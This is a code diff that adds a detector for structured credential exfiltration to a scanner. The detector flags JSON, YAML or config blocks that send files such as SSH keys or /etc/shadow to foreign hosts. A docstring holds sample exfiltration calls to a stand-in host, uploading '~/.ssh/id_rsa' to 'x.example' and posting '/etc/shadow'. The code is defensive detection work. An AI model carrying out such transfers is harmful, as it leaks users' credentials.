@@ -132,6 +132,7 @@ _GATES: dict[str, tuple[_Gate, ...]] = {
     "js_beacon": (("(", ("ookie", "Storage", "process.env")),),
     "prose": (("@", ()), (":", ("://",))),
     "cooccur": (("/", ()), ("\\", ()), ("|", ()), (".", ())),
+    "structured_transfer": ((":", ()),),
 }
 _ALSO: dict[str, tuple[str, ...]] = {"secret_in_url": ("?",)}
 """Further needles that must all be present once a kind's gate opened."""
@@ -172,8 +173,7 @@ class ExfilAnalyzer:
 
     def analyze(self, chunk: Chunk, ctx: ScanContext) -> list[Hit]:
         text = chunk.text
-        if chunk.kind is ChunkKind.JSON and "postinstall" not in text:
-            return []
+        json_only = chunk.kind is ChunkKind.JSON and "postinstall" not in text
         # NOTE: plain loops, no helper calls: this runs on every chunk.
         opened: set[str] = set()
         for char, entries in self._gates:
@@ -194,6 +194,8 @@ class ExfilAnalyzer:
         out: list[Hit] = []
         for spec, keywords in self._spec_keywords:
             if spec.kind not in opened:
+                continue
+            if json_only and spec.kind != "structured_transfer":
                 continue
             also = _ALSO.get(spec.kind)
             if also is not None and not all(n in text for n in also):
@@ -294,6 +296,8 @@ class ExfilAnalyzer:
             yield from self._prose_hits(spec, text)
         elif kind == "cooccur":
             yield from _cooccur(spec, text)
+        elif kind == "structured_transfer":
+            yield from _structured_transfer(spec, text)
 
     def _prose_hits(self, spec: _Spec, text: str) -> Iterator[Hit]:
         """Every pattern is line-bounded and ends in a destination, so only the
@@ -653,3 +657,146 @@ def _cooccur(spec: _Spec, text: str) -> Iterator[Hit]:
             break
         if count >= MAX_HITS_PER_RULE:
             return
+
+
+# ---------------------------------------------------------------- structured transfer
+
+_TRANSFER_WORD = re.compile(
+    r"(?i)(?:upload|send|post|put|push|share|transfer|forward|e-?mail|mail|attach|export|sync|"
+    r"copy|backup|publish|submit|webhook|destination|recipient|endpoint)"
+)
+_INBOUND_WORD = re.compile(r"(?i)\b(?:download|fetch|get|pull|read|clone|import|restore)\w*")
+_IDENTITY_KEY = re.compile(
+    r"(?i)identity|key_?file|keyfile|private_?key|ssh_?key|cert|ca_?file|tls|ssl|auth|"
+    r"credential|login|password|token|secret|kube_?config|netrc|known_hosts"
+)
+"""A field naming the file a tool authenticates with, not the data it sends."""
+_PUBLIC_KEY = re.compile(r"(?i)\.pub\b|\bpublic[_ -]?key\b|authorized_keys")
+_MAIL_TO = re.compile(r"^[\w.+-]{1,64}@((?:[\w-]{1,63}\.){1,5}[a-z]{2,24})$", re.IGNORECASE)
+_KV_LINE = re.compile(r"^\s*(?:-\s+)?([\w.$@-]{1,60})\s*[:=]\s*(.*)$")
+MAX_STRUCTURED_CHARS = 50_000
+MAX_JSON_NODES = 5_000
+KV_BLOCK_LINES = 8
+"""Key/value lines this near each other are one block (a YAML step, a config section)."""
+
+
+def _payload_file(key: str, value: str) -> bool:
+    """The value names a credential file and its field is not an identity one."""
+    return (
+        len(value) <= 500
+        and ("/" in value or "\\" in value or value.startswith((".", "~")))
+        and not _IDENTITY_KEY.search(key)
+        and bool(SENSITIVE_PATH.search(" " + value))
+        and not _PUBLIC_KEY.search(value)
+    )
+
+
+def _value_hosts(value: str) -> list[str]:
+    mail = _MAIL_TO.match(value.strip())
+    if mail:
+        domain = mail.group(1).lower()
+        return [] if OWN_HOST.match(domain) else [domain]
+    return _foreign_dests(value)
+
+
+def _json_objects(text: str) -> list[dict[str, Any]]:
+    """Every object of the JSON document the text holds (whole, or from its first
+    `{` to its last `}`), at most MAX_JSON_NODES nodes walked."""
+    import json
+
+    start, end = text.find("{"), text.rfind("}")
+    if start < 0 or end <= start:
+        return []
+    try:
+        doc = json.loads(text[start : end + 1])
+    except (ValueError, RecursionError):
+        return []
+    out: list[dict[str, Any]] = []
+    stack: list[Any] = [doc]
+    seen = 0
+    while stack and seen < MAX_JSON_NODES:
+        node = stack.pop()
+        seen += 1
+        if isinstance(node, dict):
+            out.append(node)
+            stack.extend(node.values())
+        elif isinstance(node, list):
+            stack.extend(node)
+    return out
+
+
+def _string_fields(node: dict[str, Any], limit: int = 200) -> list[tuple[str, str]]:
+    """(key, string) of an object and of the objects and lists inside it."""
+    pairs: list[tuple[str, str]] = []
+    stack: list[tuple[str, Any]] = [(str(k), v) for k, v in node.items()]
+    while stack and len(pairs) < limit:
+        key, value = stack.pop()
+        if isinstance(value, dict):
+            stack.extend((str(k), v) for k, v in value.items())
+        elif isinstance(value, list):
+            stack.extend((key, v) for v in value)
+        elif isinstance(value, str):
+            pairs.append((key, value))
+    return pairs
+
+
+def _transfer_host(pairs: Sequence[tuple[str, str]]) -> str | None:
+    """The foreign host a block of fields sends a credential file to: a field
+    naming a credential file (not as the tool's own identity), another naming a
+    host or address that is not the user's own, and a key or short value saying
+    the data goes out (upload, destination, webhook, send...) with none saying it
+    comes in (download, fetch, restore)."""
+    if not any(_payload_file(k, v) for k, v in pairs):
+        return None
+    hosts = [h for k, v in pairs if not _payload_file(k, v) for h in _value_hosts(v)]
+    if not hosts:
+        return None
+    words = " ".join(
+        [k for k, _ in pairs] + [v for _, v in pairs if len(v) <= 60 and "/" not in v]
+    )
+    if not _TRANSFER_WORD.search(words) or _INBOUND_WORD.search(words):
+        return None
+    return hosts[0]
+
+
+def _structured_transfer(spec: _Spec, text: str) -> Iterator[Hit]:
+    """A tool call, a workflow step or a config block (JSON, YAML, key = value)
+    whose fields name a credential file and a foreign destination and say it is
+    sent: `{"tool": "upload_file", "path": "~/.ssh/id_rsa", "destination":
+    "https://x.example"}`, an Ansible `uri` step posting `lookup('file',
+    '/etc/shadow')`. Code and shell lines are the other kinds'; this one reads
+    what has no verb to parse, only fields."""
+    from memgate.scanning.carriers import is_mention
+
+    if len(text) > MAX_STRUCTURED_CHARS or not SENSITIVE_PATH.search(text):
+        return
+    for obj in _json_objects(text):
+        host = _transfer_host(_string_fields(obj))
+        if host is not None:
+            yield Hit(spec.rule.id, 0, len(text), note=f"a credential file sent to {host}")
+            return
+    lines = text.split("\n")
+    offsets: list[int] = []
+    pos = 0
+    for line in lines:
+        offsets.append(pos)
+        pos += len(line) + 1
+    fields: list[tuple[int, str, str]] = []
+    for i, line in enumerate(lines):
+        m = _KV_LINE.match(line) if len(line) <= 2000 else None
+        if m is not None:
+            fields.append((i, m.group(1), m.group(2).strip().strip("'\"")))
+    for n, (i, _, _) in enumerate(fields):
+        block = [f for f in fields[max(0, n - KV_BLOCK_LINES + 1) : n + 1] if i - f[0] < KV_BLOCK_LINES]
+        if len(block) < 2:
+            continue
+        host = _transfer_host([(k, v) for _, k, v in block])
+        if host is None or any(is_mention(lines[j]) for j, _, _ in block):
+            continue
+        yield Hit(
+            spec.rule.id,
+            offsets[block[0][0]],
+            offsets[i] + len(lines[i]),
+            note=f"a credential file sent to {host}",
+        )
+        return
